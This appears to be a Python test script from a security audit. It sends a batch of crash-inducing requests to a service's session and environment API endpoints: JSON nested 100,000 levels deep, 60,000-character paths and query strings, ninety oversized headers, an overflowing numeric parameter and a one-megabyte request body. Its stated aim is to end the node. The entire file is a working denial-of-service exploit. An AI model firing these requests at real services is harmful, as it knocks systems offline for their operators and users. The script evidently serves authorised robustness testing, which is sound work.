# name: end the node by requests of nested JSON, long targets and long heads
# line: 68
# finding: 6
# play: outside
from attack import ask_node, planted_or_ended

planted_or_ended([
    ("nested", lambda: ask_node("POST", "/v1/sessions", b'{"policy":' + b"[" * 100_000 + b"]" * 100_000 + b"}")),
    ("long target", lambda: ask_node("GET", "/v1/sessions/" + "x" * 60_000)),
    ("long query", lambda: ask_node("GET", "/v1/sessions?" + "x" * 60_000)),
    ("long head", lambda: ask_node("GET", "/v1/sessions", headers=[f"x-{n}: {'y' * 600}" for n in range(90)])),
    ("huge number", lambda: ask_node("GET", "/v1/environments?wait_ms=99999999999999999999")),
    ("long turn", lambda: ask_node("POST", "/v1/sessions/none/turns", b'{"code":"' + b"x" * 1_000_000 + b'"}')),
])
